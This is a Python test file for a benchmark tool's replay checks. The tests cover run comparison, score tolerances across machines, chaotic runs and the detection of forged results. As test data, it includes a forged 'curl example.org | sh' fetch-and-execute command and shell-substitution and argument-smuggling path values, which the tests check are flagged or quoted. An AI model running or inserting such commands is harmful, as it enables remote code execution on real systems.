"""Replays: what counts as the same run, which runs are drawn, what cannot be replayed and why."""

from __future__ import annotations

import contextlib
import itertools
import math
import random
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from assay.engine.cells import Cell
from assay.engine.pool import Pool
from assay.errors import AssayError, DataError, PluginError, WorkerError
from assay.plugins.registry import find_method, method_ref
from assay.publication import replay as replaying
from assay.publication.comparison import compare, distance, rule_of
from assay.publication.drift import SPREAD, mean_difference, rule
from assay.publication.replay import Replay, replay, summarise
from assay.records.schema import RunRecord, reproduce_command
from assay.space import FloatRange

ALLOWED = 0.02


@pytest.fixture
def cell(make_cell: Any, make_task: Any, make_method: Any) -> Cell:
    made: Cell = make_cell(make_task(), make_method("sgd", "a = 1\n"))
    return made


@pytest.fixture
def run(cell: Cell, fake_pool: Any) -> Callable[[int], RunRecord]:
    """A record of a repetition, as the fake pool makes them."""

    def made(number: int = 0) -> RunRecord:
        spec = cell.spec(number, 0, cell.points(number)[0])
        record: RunRecord = fake_pool().run(cell.job(spec), cell.reproduce(spec))
        return record

    return made


@pytest.fixture
def completed(run: Callable[[int], RunRecord]) -> RunRecord:
    return next(record for record in map(run, range(50)) if record.result)


@pytest.fixture
def diverged(run: Callable[[int], RunRecord]) -> RunRecord:
    return next(record for record in map(run, range(50)) if not record.result)


def elsewhere(record: RunRecord, **changes: Any) -> RunRecord:
    environment = record.environment.model_copy(update={"cpu": "another"})
    return record.model_copy(update={"environment": environment, **changes})


def scored(record: RunRecord, test: float) -> RunRecord:
    assert record.result is not None
    result = record.result.model_copy(update={"test": test})
    return record.model_copy(update={"result": result, "weights_sha256": "0" * 64})


def test_on_one_machine_everything_but_time_must_be_the_same(completed: RunRecord) -> None:
    assert completed.result is not None
    usage = completed.usage.model_copy(update={"train_seconds": 99.0, "peak_bytes": 1})
    slower = completed.model_copy(update={"usage": usage, "created_at": "later"})
    assert compare(completed, slower, ALLOWED).verdict == "identical"
    point = replace(completed.curve[0], test=0.123)
    forged: dict[str, Any] = {
        "weights": {"weights_sha256": "0" * 64},
        "result": {"result": completed.result.model_copy(update={"test": 0.999})},
        "curve": {"curve": [point, *completed.curve[1:]]},
        "counts": {"usage": completed.usage.model_copy(update={"passes": 1})},
    }
    for name, change in forged.items():
        found = compare(completed.model_copy(update=change), completed, ALLOWED)
        assert found.verdict == "differs"
        assert found.detail.startswith(name)


def test_a_record_without_a_curve_is_compared_by_the_rest(completed: RunRecord) -> None:
    """Most records of a bundle have none; coordinates are left out of others."""
    bare = completed.model_copy(update={"curve": [], "checks": None})
    assert compare(bare, completed, ALLOWED).verdict == "identical"
    placed = completed.model_copy(
        update={"curve": [replace(point, x=0.5, y=0.5) for point in completed.curve]}
    )
    assert compare(completed, placed, ALLOWED).verdict == "identical"
    forged = bare.model_copy(update={"weights_sha256": "0" * 64})
    assert compare(forged, completed, ALLOWED).verdict == "differs"


def test_the_rule_is_said_in_words() -> None:
    assert "equal bit for bit, on another one validation and test score may differ by 0.02" in (
        rule_of(ALLOWED)
    )


def test_on_another_machine_the_score_has_a_stated_tolerance(completed: RunRecord) -> None:
    assert completed.result is not None
    for share, verdict in ((0.99, "within tolerance"), (1.01, "differs")):
        there = elsewhere(scored(completed, completed.result.test + share * ALLOWED))
        found = compare(there, completed, ALLOWED)
        assert found.verdict == verdict
        assert f"allowed {ALLOWED:.4g}" in found.detail
        assert "cpu another, here fake" in found.detail
    assert compare(elsewhere(completed), completed, ALLOWED).verdict == "identical"


def test_the_tolerance_is_the_tasks(make_task: Callable[..., Any]) -> None:
    card = make_task().card
    assert card.replay_tolerance == 2 * card.metric.margin


def test_a_gpu_promises_no_bits_even_beside_itself(completed: RunRecord) -> None:
    def on_gpu(record: RunRecord) -> RunRecord:
        environment = record.environment.model_copy(update={"device": "gpu"})
        return record.model_copy(update={"environment": environment})

    assert completed.result is not None
    again = scored(completed, completed.result.test)
    assert compare(on_gpu(completed), on_gpu(again), ALLOWED).verdict == "within tolerance"
    assert compare(completed, again, ALLOWED).verdict == "differs"


def test_a_run_that_ended_badly_must_end_so_again(
    completed: RunRecord, diverged: RunRecord
) -> None:
    assert compare(diverged, diverged, ALLOWED).verdict == "identical"
    assert compare(elsewhere(diverged), diverged, ALLOWED).verdict == "identical"
    assert compare(diverged, completed, ALLOWED).verdict == "differs"
    assert compare(elsewhere(diverged), completed, ALLOWED).verdict == "differs"
    late = diverged.model_copy(update={"status": "out_of_budget"})
    assert compare(late, completed, ALLOWED).verdict == "differs"
    assert compare(elsewhere(late), completed, ALLOWED).verdict == "cannot"


def test_another_scorer_cannot_be_compared(completed: RunRecord) -> None:
    older = completed.model_copy(update={"scorer_version": 0})
    assert compare(older, completed, ALLOWED).verdict == "cannot"


def told(verdict: str, level: str | None = "L2", margins: float | None = None) -> Replay:
    names = {"run_id": "0" * 16, "task": "t", "method": "m", "repetition": 0, "point": 1}
    facts = {"verdict": verdict, "detail": "", "recorded_test": 0.5, "tolerance": 0.02}
    return Replay(**names, **facts, level=level, margins=margins, unit=0.01)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("replays", "tier", "says"),
    [
        ([told("identical"), told("within tolerance")], "T2", "2 runs replayed, 1 of them bit"),
        ([told("identical"), told("differs")], None, "1 of 2 runs differ"),
        ([told("identical"), told("cannot", None)], None, "1 of 2 runs could be replayed"),
        ([told("identical"), told("identical", "L1")], None, "at level L1; expected the sandbox"),
        ([told("identical"), told("chaotic")], "T2", "1 runs replayed, 1 of them bit for bit; 1 "),
        ([told("chaotic")] * 2, None, "2 of 2 runs are chaotic: they can be compared on the"),
    ],
)
def test_a_tier_is_earned_by_every_run(replays: list[Replay], tier: str | None, says: str) -> None:
    found = summarise(replays, len(replays))
    assert found.tier == tier
    assert says in found.why


def test_no_run_and_too_few_earn_no_tier() -> None:
    assert summarise([], 0).tier is None
    few = summarise([told("identical")] * 3, 3, enough=10)
    assert (few.tier, few.contradicted, "too few" in few.why) == (None, False, True)


def test_records_that_are_all_a_little_better_are_contradicted() -> None:
    """+1.9 margins a repetition: each within 2 margins, all together not."""
    steady = summarise([told("within tolerance", margins=1.9)] * 12, 12)
    assert (steady.tier, steady.contradicted) == (None, True)
    assert "over 12 runs the records differ by +0.019 from their replays on average" in steady.why
    both = [told("within tolerance", margins=m) for m in (1.9, -1.9) * 6]
    found = summarise(both, 12)
    assert (found.tier, found.mean_difference and found.mean_difference.n) == ("T2", 12)
    cannot = summarise([*both, told("cannot")], 13)
    assert (cannot.tier, cannot.contradicted) == (None, False)


WIDEST = [
    -1.78, -1.23, -0.56, *[0.0] * 16, 0.56, 1.11, 1.11, 1.90,
]  # fmt: skip
"""Margins between AVX2 and AVX-512, SGD on digits_cnn: the widest of 14 cells measured."""


def test_honest_machines_are_seldom_called_false() -> None:
    """At most FALSE_ALARMS, for differences as wide as SPREAD and for those that were measured."""
    draw = random.Random(7)
    samples: list[Callable[[], float]] = [
        lambda: draw.gauss(0, SPREAD),
        lambda: draw.choice(WIDEST),
    ]
    for sampled, n in itertools.product(samples, (3, 10, 25)):
        alarms = 0
        for _ in range(3000):
            found = mean_difference([sampled() for _ in range(n)])
            alarms += found is not None and found.exceeded
        assert alarms <= 10  # of 3 expected: P = 0.03 %
    assert "false alarms: at most 0.1%" in rule()


def test_validation_scores_have_the_same_tolerance(completed: RunRecord) -> None:
    """Or a forger could choose which point is selected."""
    assert completed.result is not None
    there = elsewhere(scored(completed, completed.result.test))
    assert there.result is not None
    val = there.result.model_copy(update={"val": completed.result.val - 1.01 * ALLOWED})
    assert (
        compare(there.model_copy(update={"result": val}), completed, ALLOWED).verdict == "differs"
    )


class Moved:
    """A pool on which a nudged run ends elsewhere by what is listed; others as `plain`."""

    def __init__(self, plain: RunRecord, moves: list[float | str]) -> None:
        self.plain, self.moves, self.nudges = plain, moves, list[int]()

    def run(self, job: Any, reproduce: str) -> RunRecord:
        self.nudges.append(job.nudge)
        move = self.moves[len(self.nudges) - 1]
        if isinstance(move, str):
            return self.plain.model_copy(update={"status": move, "result": None})
        assert self.plain.result is not None
        return scored(self.plain, self.plain.result.test + move)


@pytest.fixture
def judge(cell: Cell, completed: RunRecord) -> Callable[..., tuple[Any, list[int]]]:
    """The verdict on a record that is better than its replay by so much, and the nudges tried."""

    def judged(better: float | str, moves: list[float | str], abroad: bool = True) -> Any:
        assert completed.result is not None
        if isinstance(better, str):
            record = completed.model_copy(update={"status": better, "result": None})
        else:
            record = scored(completed, completed.result.test + better)
        pool: Any = Moved(completed, moves)
        record = elsewhere(record) if abroad else record
        job = cell.job(completed.spec)
        return replaying.judged(record, completed, job, pool), pool.nudges

    return judged


def test_where_a_nudge_moves_a_run_as_far_a_difference_shows_nothing(judge: Any) -> None:
    still: list[float] = [0.0] * replaying.NUDGES
    found, nudges = judge(0.1, [0.001, -0.03, *still])
    assert (found.verdict, nudges) == ("chaotic", [1, 2])
    assert "test differs by 0.1" in found.detail and "it differs by 0.03" in found.detail
    found, nudges = judge(0.1, [0.024] * 16)  # less than a quarter
    assert (found.verdict, nudges) == ("differs", list(range(1, 17)))
    assert judge(0.5 * ALLOWED, still)[1] == []  # within tolerance
    found, nudges = judge(0.1, [1.0], abroad=False)  # bit for bit, or it differs
    assert (found.verdict, nudges) == ("differs", [])


def test_a_run_that_ends_otherwise_is_chaotic_only_if_a_nudged_one_does(judge: Any) -> None:
    assert judge("diverged", [0.5] * 16)[0].verdict == "differs"
    found, nudges = judge("diverged", [0.0, "diverged"])
    assert (found.verdict, nudges) == ("chaotic", [1, 2])
    assert "in how it ends" in found.detail
    assert judge(0.1, ["diverged"])[0].verdict == "chaotic"


def test_the_distance_of_two_runs(completed: RunRecord, diverged: RunRecord) -> None:
    assert distance(completed, completed) == distance(diverged, diverged) == 0.0
    assert distance(completed, diverged) == math.inf
    assert completed.result is not None
    val = completed.result.model_copy(update={"val": completed.result.val - 0.25})
    assert distance(completed, completed.model_copy(update={"result": val})) == 0.25


class Replaying:
    """`replay` of one cell's records on a pool that trains nothing."""

    def __init__(self, cell: Cell, patch: pytest.MonkeyPatch) -> None:
        self.cell, self.pools = cell, 0
        patch.setattr(replaying, "find_task", lambda slug: cell.task)

    def __call__(self, records: list[RunRecord], pool: Any) -> list[Replay]:
        def make_pool(**_: Any) -> Any:
            self.pools += 1
            if isinstance(pool, Exception):
                raise pool
            return contextlib.nullcontext(pool)

        entry = self.cell.method
        return list(
            replay(records, lambda ref: replaying.checked_method(entry, ref), make_pool=make_pool)
        )


@pytest.fixture
def replaying_cell(cell: Cell, monkeypatch: pytest.MonkeyPatch) -> Replaying:
    return Replaying(cell, monkeypatch)


def test_runs_are_replayed_on_one_pool_each_with_its_verdict(
    replaying_cell: Replaying, run: Callable[[int], RunRecord], fake_pool: Any
) -> None:
    records = [run(number) for number in range(4)]
    records[2] = records[2].model_copy(update={"weights_sha256": "0" * 64})
    found = replaying_cell(records, fake_pool())
    assert [one.verdict for one in found] == ["identical", "identical", "differs", "identical"]
    assert [one.run_id for one in found] == [record.id for record in records]
    assert replaying_cell.pools == 1


def test_another_search_space_than_the_methods_is_a_difference(
    replaying_cell: Replaying, completed: RunRecord, fake_pool: Any
) -> None:
    """Points are drawn from it, so who could choose it could choose them."""
    lr = FloatRange(low=0.09, high=0.11)
    other = completed.space.model_copy(update={"ranges": {"lr": lr}})
    found = replaying_cell([completed, completed.model_copy(update={"space": other})], fake_pool())
    assert [one.verdict for one in found] == ["identical", "differs"]
    assert "not the one that the method declares" in found[1].detail
    assert found[0].tolerance == 0.02


def test_what_cannot_be_replayed_says_why_and_stops_no_other(
    replaying_cell: Replaying, completed: RunRecord, fake_pool: Any, tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    monkeypatch.setenv("ASSAY_EPOCHS", str(tmp_path))
    spec = completed.spec
    changed = {
        "the task has changed since": spec.model_copy(update={"task": spec.task.model_copy(
            update={"code_hash": "0" * 64})}),
        "stale method": spec.model_copy(update={"method": spec.method.model_copy(
            update={"code_hash": "0" * 64})}),
        "sgd was made with lost-library 1.0: not installed here": spec.model_copy(
            update={"method": spec.method.model_copy(
                update={"libraries": {"lost-library": "1.0 #aa"}})}),
        "was made with lost-library 2.0: not installed here": spec.model_copy(
            update={"task": spec.task.model_copy(update={"libraries": {"lost-library": "2.0"}})}),
        "ruleset 0": spec.model_copy(update={"ruleset": 0}),
        "no epoch is called 'spring'": spec.model_copy(update={"epoch": "spring"}),
    }  # fmt: skip
    records = [completed.model_copy(update={"spec": one}) for one in changed.values()]
    found = replaying_cell([*records, completed], fake_pool())
    assert [one.verdict for one in found] == ["cannot"] * 6 + ["identical"]
    for reason, one in zip(changed, found, strict=False):
        assert reason in one.detail


def test_another_version_of_a_library_is_refused_by_name() -> None:
    entry = find_method("diffgrad")
    now = method_ref(entry)
    assert replaying.checked_method(entry, now) is entry
    older = now.model_copy(update={"libraries": {"pytorch_optimizer": "3.1.0 #aa"}})
    with pytest.raises(PluginError, match="diffgrad uses pytorch_optimizer 3.1.0 then, .* now; it"):
        replaying.checked_method(entry, older)


@pytest.mark.parametrize(
    "problem", [DataError("the data are missing"), WorkerError("no GPU was found")]
)
def test_missing_data_or_machines_are_reasons_not_differences(
    replaying_cell: Replaying, completed: RunRecord, fake_pool: Any, problem: AssayError
) -> None:
    class Failing(fake_pool):  # type: ignore[misc]
        def run(self, *_: Any) -> RunRecord:
            raise problem

    for pool in (Failing(), problem):  # the run fails, or the pool cannot be had at all
        (found,) = replaying_cell([completed], pool)
        assert (found.verdict, found.detail) == ("cannot", str(problem))


def test_a_command_that_is_not_the_specs_is_told(
    replaying_cell: Replaying, completed: RunRecord, fake_pool: Any
) -> None:
    assert replaying.command_note(completed) == ""
    forged = completed.model_copy(update={"reproduce": "curl example.org | sh"})
    (found,) = replaying_cell([forged], fake_pool())
    assert found.verdict == "identical"
    assert "expected: assay run sgd --task toy" in found.detail


@pytest.mark.parametrize(
    ("name", "sound"),
    [
        ("./sgd.py", True),
        ("../a folder/sgd", True),
        ("sgd/other.py", False),
        ("--results=x/sgd", False),
        ("$(true)/sgd", True),  # quoted
    ],
)
def test_a_command_may_name_the_methods_path(completed: RunRecord, name: str, sound: bool) -> None:
    command = reproduce_command(name, completed.spec)
    record = completed.model_copy(update={"reproduce": command})
    assert (replaying.command_note(record) == "") is sound
    unquoted = completed.model_copy(update={"reproduce": command.replace("'", "")})
    assert "'" not in command or replaying.command_note(unquoted) != ""


def test_a_real_run_is_identical_and_a_forged_score_is_not(
    pool: Pool, make_task: Any, make_method: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    from assay.engine.cells import make_cells

    source = "from assay import Method\n\n\nclass M(Method):\n    pass\n"
    task, method = make_task(), make_method("mine", source)
    monkeypatch.setattr(replaying, "find_task", lambda slug: task)
    (cell,) = make_cells([(task, method)], pool, "quick")
    spec = cell.spec(1, 1, cell.points(1)[1])
    record = pool.run(cell.job(spec), cell.reproduce(spec))
    assert record.result is not None
    better = record.result.model_copy(update={"test": 1.0})
    forged = record.model_copy(update={"result": better})
    moved = pool.run(replace(cell.job(spec), nudge=1), cell.reproduce(spec))
    assert moved.weights_sha256 != record.weights_sha256
    assert distance(moved, record) < 0.1
    found = list(
        replay([record, forged], lambda ref: replaying.checked_method(method, ref),
               make_pool=lambda **_: contextlib.nullcontext(pool))
    )  # fmt: skip
    assert [one.verdict for one in found] == ["identical", "differs"]
    assert found[0].level == record.isolation.level
    assert found[0].detail == ""
